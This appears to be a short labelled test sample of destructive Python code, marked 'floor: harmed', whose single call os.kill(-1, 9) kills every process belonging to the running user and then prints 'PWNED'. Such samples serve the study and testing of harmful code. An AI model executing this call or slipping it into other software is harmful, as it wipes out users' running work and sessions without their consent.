# floor: harmed
# It kill(-1), which reaches every process of the user.
import os
try:
    os.kill(-1, 9)
    print("PWNED")
except OSError:
    pass
